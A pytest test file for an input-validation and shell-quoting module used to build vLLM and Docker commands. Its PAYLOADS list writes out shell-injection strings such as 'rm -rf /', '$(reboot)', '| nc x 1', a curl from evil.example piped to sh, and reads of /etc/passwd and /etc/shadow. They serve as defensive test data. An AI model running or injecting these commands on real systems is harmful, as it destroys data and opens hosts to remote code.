"""Shell safety: whitelists refuse injection payloads without echoing them; quoting round-trips
through shlex and through a real bash."""

from __future__ import annotations

import os
import re
import shlex
import shutil
import subprocess
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app import shellsafe as ss
from app.errors import BadRequest
from app.shellsafe import UnsafeValue

BASH = shutil.which("bash")
needs_bash = pytest.mark.skipif(BASH is None, reason="bash not installed")

# (check, field, documented regex, realistic good values)
WHITELISTS: list[tuple[Callable[..., object], str, str, list[str]]] = [
    (
        ss.check_repo,
        "repo",
        ss.REPO_RE,
        [
            "Qwen/Qwen3-30B-A3B-Instruct-2507",
            "meta-llama/Llama-3.1-8B-Instruct",
            "nvidia/Llama-3.3-70B-Instruct-FP4",
            "openai/gpt-oss-120b",
            "RedHatAI/Qwen3-32B-FP8-dynamic",
        ],
    ),
    (
        ss.check_image,
        "image",
        ss.IMAGE_RE,
        [
            "nvcr.io/nvidia/vllm:25.09-py3",
            "nvidia/llama-3.1-nemotron@sha256:abc",
            "vllm/vllm-openai:latest",
            "localhost:5000/vllm:dev",
        ],
    ),
    (ss.check_container, "container", ss.NAME_RE, ["vllm_node", "vllm-qwen3", "spark.vllm.1"]),
    (ss.check_service, "service", ss.NAME_RE, ["vllm", "spark-worker", "nvidia-persistenced"]),
    (
        ss.check_local_path,
        "local_path",
        ss.LOCAL_PATH_RE,
        ["/models/qwen3", "/home/ubuntu/.cache/huggingface/hub", "/data/Qwen3-30B+fp8", "/m"],
    ),
    (
        ss.check_model_key,
        "model",
        ss.MODEL_KEY_RE,
        ["qwen3", "qwen3-30b-a3b", "gpt-oss.120b", "llama_3.1", "a" * 64],
    ),
    (ss.check_env_name, "env", ss.ENV_NAME_RE, ["HF_TOKEN", "NGC_API_KEY", "VLLM_USE_V1", "_X"]),
    (
        ss.check_flag,
        "flag",
        ss.FLAG_RE,
        ["--max-model-len", "--gpu-memory-utilization", "--tensor-parallel-size", "--tp"],
    ),
]
WL_IDS = [w[1] for w in WHITELISTS]

PAYLOADS = [
    "; rm -rf /",
    "x; rm -rf /",
    "$(reboot)",
    "`reboot`",
    "| nc x 1",
    "&& curl evil.example | sh",
    "|| true",
    "a\nreboot",
    "a\rb",
    "a\x00b",
    "../../etc/passwd",
    "/a/../b",
    "-rf",
    "--help x",
    "'quoted'",
    '"quoted"',
    "a b",
    "a\tb",
    "\uff1brm -rf /",  # fullwidth semicolon
    "\uff52\uff4d -rf",  # fullwidth "rm"
    "\uff31wen/Qwen3",  # fullwidth Q
    "qwen\u200b3",  # zero-width space
    "qwen\u2028x",  # line separator
    "${IFS}reboot",
    "$HOME",
    "x>/etc/passwd",
    "x</etc/shadow",
    "qwen*",
    "/models/*",
    "qwen?",
    "{a,b}",
    "~root",
    "a\\b",
    "qwené",
    "a" * 10_000,
    "",
]
# Characters some whitelist admits; a payload with any other character stays refused when
# appended to a good value.
_ANY_WHITELIST_CHAR = re.compile(r"[A-Za-z0-9._:/@+-]*")
METACHAR_PAYLOADS = [p for p in PAYLOADS if p and not _ANY_WHITELIST_CHAR.fullmatch(p)]

TOO_LONG = [
    (ss.check_repo, "a/" + "b" * 199),
    (ss.check_image, "a" * 256),
    (ss.check_container, "a" * 129),
    (ss.check_service, "a" * 129),
    (ss.check_local_path, "/" + "a" * 4096),
    (ss.check_model_key, "a" * 65),
    (ss.check_env_name, "A" * 129),
    (ss.check_flag, "--" + "a" * 127),
    (ss.check_env_value, "x" * 4097),
    (ss.check_arg_value, "x" * 4097),
]


def _refused(check: Callable[..., object], value: object, field: str) -> UnsafeValue:
    with pytest.raises(UnsafeValue) as info:
        check(value)
    exc = info.value
    assert isinstance(exc, BadRequest)
    assert exc.code == "UNSAFE_VALUE" and exc.status == 400
    assert exc.message.startswith(f"{field}: ")
    if isinstance(value, str) and len(value) >= 3:  # shorter ones may occur in the rule text
        assert value not in exc.message and value not in str(exc)
    return exc


# --- whitelists: examples ---------------------------------------------------------------------


@pytest.mark.parametrize(("check", "field", "regex", "good"), WHITELISTS, ids=WL_IDS)
def test_whitelist_accepts_realistic_values(check, field, regex, good):
    for v in good:
        assert check(v) == v


@pytest.mark.parametrize(("check", "field", "regex", "good"), WHITELISTS, ids=WL_IDS)
@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_whitelist_refuses_payload_without_echoing_it(check, field, regex, good, payload):
    _refused(check, payload, field)


@pytest.mark.parametrize(("check", "field", "regex", "good"), WHITELISTS, ids=WL_IDS)
@pytest.mark.parametrize("payload", METACHAR_PAYLOADS, ids=range(len(METACHAR_PAYLOADS)))
def test_whitelist_refuses_payload_appended_to_good_value(check, field, regex, good, payload):
    for v in good:
        _refused(check, v + payload, field)


@pytest.mark.parametrize(("check", "value"), TOO_LONG, ids=[c.__name__ for c, _ in TOO_LONG])
def test_too_long_is_refused(check, value):
    with pytest.raises(UnsafeValue, match="at most"):
        check(value)


@pytest.mark.parametrize(("check", "field", "regex", "good"), WHITELISTS, ids=WL_IDS)
@pytest.mark.parametrize("value", [None, 1, b"qwen3", ["a/b"]], ids=repr)
def test_non_strings_are_refused(check, field, regex, good, value):
    with pytest.raises(UnsafeValue, match="must be a string"):
        check(value)


def test_message_names_field_and_rule():
    with pytest.raises(UnsafeValue) as info:
        ss.check_repo("hf_SECRET token", field="models.qwen3.repo")
    assert info.value.message == (
        "models.qwen3.repo: must look like owner/name ([A-Za-z0-9._-]+/[A-Za-z0-9._-]+)"
    )
    assert "SECRET" not in str(info.value)


@pytest.mark.parametrize("v", ["./x", "../x", "x/.", "x/..", "-x/y", "a/b/c", "/a", "a/"])
def test_repo_refuses_dot_parts_leading_dash_and_shape(v):
    _refused(ss.check_repo, v, "repo")


def test_repo_length_limit_is_inclusive():
    v = "a" * 100 + "/" + "b" * 99
    assert ss.check_repo(v) == v


@pytest.mark.parametrize(
    "v", ["/", "/models/", "//models", "/models//x", "/models/./x", "/models/..", "models/x"]
)
def test_local_path_refuses_bad_segments(v):
    _refused(ss.check_local_path, v, "local_path")


@pytest.mark.parametrize("v", ["-vllm", ".vllm", "_vllm", "Qwen3"])
def test_model_key_refuses_leading_punctuation_and_upper_case(v):
    _refused(ss.check_model_key, v, "model")


@pytest.mark.parametrize("v", ["-vllm", ".vllm", "_vllm"])
def test_names_refuse_leading_punctuation(v):
    _refused(ss.check_container, v, "container")
    _refused(ss.check_service, v, "service")
    _refused(ss.check_image, v, "image")


@pytest.mark.parametrize("v", ["-max-model-len", "--Max", "--", "---x", "--a_b", "max-model-len"])
def test_flag_refuses_bad_shapes(v):
    _refused(ss.check_flag, v, "flag")


@pytest.mark.parametrize("v", [8888, 1, 65535])
def test_port_accepts(v):
    assert ss.check_port(v) == v


@pytest.mark.parametrize("v", [0, -1, 65536, True, False, "8888", 8888.0, None])
def test_port_refuses(v):
    with pytest.raises(UnsafeValue, match=r"^port: must be an integer in 1\.\.65535$"):
        ss.check_port(v)


@pytest.mark.parametrize(
    ("v", "out"),
    [
        (32768, "32768"),
        (0.85, "0.85"),
        (True, "true"),
        (False, "false"),
        (-1, "-1"),
        ("-1", "-1"),
        ("-0.5", "-0.5"),
        ("1e-3", "1e-3"),
        ("Qwen/Qwen3", "Qwen/Qwen3"),
        ('{"temperature": 0.7}', '{"temperature": 0.7}'),
        ("a b; $(c) `d` 'e'", "a b; $(c) `d` 'e'"),
    ],
)
def test_arg_value_accepts(v, out):
    assert ss.check_arg_value(v) == out


@pytest.mark.parametrize(
    "v",
    ["-rf", "--trust-remote-code", "a\nb", "a\rb", "a\x00b", "a\x1bb", float("nan"), None, [1]],
    ids=repr,
)
def test_arg_value_refuses(v):
    _refused(ss.check_arg_value, v, "arg")


@pytest.mark.parametrize("v", ["hf_abcDEF123", "p@ss w0rd;$(no)`x`'\"", "ünïcødé ✓", "-x", ""])
def test_env_value_accepts_any_printable_text(v):
    assert ss.check_env_value(v) == v


@pytest.mark.parametrize("v", ["a\nb", "a\rb", "a\x00b", "a\x7fb", "a\x85b", 1, None], ids=repr)
def test_env_value_refuses_control_characters(v):
    _refused(ss.check_env_value, v, "env")


# --- sinks: examples --------------------------------------------------------------------------


def test_quote_and_command():
    assert ss.quote("") == "''"
    assert ss.quote("qwen3") == "qwen3"
    assert ss.quote("a b") == "'a b'"
    assert ss.quote_argv([]) == ""
    assert ss.command("docker", "rm", "-f", ["a b", "c"]) == "docker rm -f 'a b' c"
    assert ss.command("echo", "&&", "reboot") == "echo '&&' reboot"


def test_quote_refuses_nul_and_non_str():
    with pytest.raises(UnsafeValue):
        ss.quote("a\x00b")
    with pytest.raises(TypeError):
        ss.quote(1)  # type: ignore[arg-type]
    with pytest.raises(TypeError):
        ss.quote_argv("abc")


def test_env_assignments_quotes_values():
    assert ss.env_assignments({}) == ""
    assert ss.env_assignments({"A": "x", "B": "a b"}) == "A=x B='a b'"


@pytest.mark.parametrize(
    "name", ["bad-name", "1XY", "A;B", "A B", "low", "$(reboot)", "", "\uff21\uff22\uff23"]
)
def test_env_assignments_refuses_bad_name(name):
    with pytest.raises(UnsafeValue) as info:
        ss.env_assignments({name: "x"})
    assert info.value.message.startswith("env: ")
    assert not name or name not in info.value.message


def test_env_assignments_refuses_bad_value_naming_the_variable():
    with pytest.raises(UnsafeValue) as info:
        ss.env_assignments({"HF_TOKEN": "hf_secret\nreboot"})
    assert info.value.message.startswith("env.HF_TOKEN: ")
    assert "hf_secret" not in info.value.message


def _bash(script: str, locale: str = "C.UTF-8") -> bytes:
    assert BASH is not None
    env = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), "LC_ALL": locale}
    proc = subprocess.run([BASH, "-c", script], capture_output=True, env=env, timeout=10)
    assert proc.returncode == 0, proc.stderr
    return proc.stdout


@needs_bash
def test_env_assignments_round_trip_through_bash():
    token = "hf_a$b'c\"d;e`f`$(g) |h&&i\\j ${IFS} *"
    script = ss.env_assignments({"HF_TOKEN": token, "N": "2"}) + '; printf %s "$HF_TOKEN|$N"'
    assert _bash(script).decode() == token + "|2"


@needs_bash
@pytest.mark.parametrize("payload", [p for p in PAYLOADS if "\x00" not in p], ids=repr)
def test_payloads_quoted_reach_bash_as_data(payload):
    assert _bash("printf '%s\\n' " + ss.quote(payload)).decode() == payload + "\n"


# --- properties -------------------------------------------------------------------------------

_FREE_TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cs")))


@pytest.mark.parametrize(("check", "field", "regex", "good"), WHITELISTS, ids=WL_IDS)
@settings(max_examples=300)
@given(data=st.data())
def test_refused_or_matches_documented_regex(check, field, regex, good, data):
    v = data.draw(st.one_of(st.text(), st.from_regex(regex, fullmatch=True)))
    try:
        out = check(v)
    except UnsafeValue as exc:
        assert exc.message.startswith(f"{field}: ")
        return
    assert out == v and re.fullmatch(regex, v)
    if check is ss.check_repo:
        assert not {".", ".."} & set(v.split("/")) and not v.startswith("-")
    if check is ss.check_local_path:
        assert all(seg not in ("", ".", "..") for seg in v[1:].split("/"))


@settings(max_examples=300)
@given(st.one_of(st.text(), _FREE_TEXT))
def test_free_text_refused_or_free_of_control_characters(v):
    for check in (ss.check_env_value, ss.check_arg_value):
        try:
            out = check(v)
        except UnsafeValue:
            continue
        assert out == v and len(v) <= ss.MAX_TEXT
        assert not re.search(ss.CONTROL_RE, v)
        assert not {"\x00", "\n", "\r"} & set(v)


@given(st.one_of(st.integers(), st.booleans(), st.floats(), st.text(), st.none()))
def test_port_property(v):
    try:
        out = ss.check_port(v)
    except UnsafeValue:
        return
    assert type(v) is int and out == v and 1 <= v <= 65535


@settings(max_examples=300)
@given(st.lists(st.text().filter(lambda s: "\x00" not in s)))
def test_quote_argv_round_trips_through_shlex(argv):
    assert shlex.split(ss.quote_argv(argv)) == argv


@needs_bash
@settings(max_examples=150, deadline=None)
@given(t=st.text().filter(lambda s: "\x00" not in s), locale=st.sampled_from(["C", "C.UTF-8"]))
def test_quoted_text_reaches_bash_unchanged(t, locale):
    assert _bash("printf '%s\\n' " + ss.quote(t), locale) == t.encode() + b"\n"


@needs_bash
@settings(max_examples=100, deadline=None)
@given(argv=st.lists(st.text().filter(lambda s: "\x00" not in s), min_size=1, max_size=5))
def test_command_reaches_bash_as_argv(argv):
    out = _bash(ss.command("printf", "%s\\0", argv))
    assert out.split(b"\x00")[:-1] == [a.encode() for a in argv]


@needs_bash
@settings(max_examples=100, deadline=None)
@given(
    env=st.dictionaries(
        st.from_regex(r"SC_T[A-Z0-9_]{0,8}", fullmatch=True), _FREE_TEXT, max_size=4
    )
)
def test_env_assignments_round_trip_through_bash_env(env):
    assert BASH is not None
    printenv = shutil.which("env") or "/usr/bin/env"
    out = _bash(f"{ss.env_assignments(env)} {ss.quote(printenv)} -0")
    seen = dict(item.split(b"=", 1) for item in out.split(b"\x00") if item)
    for name, value in env.items():
        assert seen[name.encode()] == value.encode()
